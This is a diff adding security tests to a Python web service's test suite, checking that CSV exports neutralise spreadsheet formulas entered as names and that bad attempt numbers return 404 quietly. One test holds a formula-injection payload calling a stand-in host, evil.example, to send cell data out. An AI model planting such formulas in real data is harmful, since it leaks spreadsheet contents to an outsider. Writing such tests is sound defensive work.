@@ -1,5 +1,6 @@
 """Attacks on the service: forged forms, planted sessions, hostile names, too much and too slow."""
 
+import csv
 import select
 import socket
 import time
@@ -244,6 +245,24 @@ def test_nobody_takes_their_own_rights_away(ida):
     """The last instructor cannot lock everybody out by a slip."""
     assert ida.send("/people/ida/role", role="student").status_code == 422
     assert ida.send("/people/ida/remove").status_code == 422
+
+
+def test_a_name_is_no_formula(ida):
+    """A spreadsheet that opens everyone's links shows names, and calculates nothing."""
+    formula = '=HYPERLINK("https://evil.example/?"&C2)'
+    assert ida.send("/people", name="@eve", full_name=formula, role="student").is_redirect
+    rows = list(csv.reader(ida.get("/people-links.csv").text.splitlines()))
+    assert ["'@eve", f"'{formula}"] in [row[:2] for row in rows]
+    assert ida.send("/people/@eve/remove").is_redirect
+
+
+@pytest.mark.parametrize("number", ["1" + "0" * 30, "9" * 5000, "0", "-1", "²"])
+def test_a_number_that_no_attempt_has(ada, ida, caplog, number):
+    """Nobody has such an attempt; that is no error of ours, and fills no log."""
+    assert ada.get(f"/work/powers/attempts/{number}").status_code == 404
+    assert ada.get(f"/work/powers/attempts/{number}/files").status_code == 404
+    assert ida.get(f"/class/powers/student/ada/{number}").status_code == 404
+    assert not [record for record in caplog.records if record.levelname == "ERROR"]
 
 
 # -- too much, too slow, cut off -----------------------------------------------------------
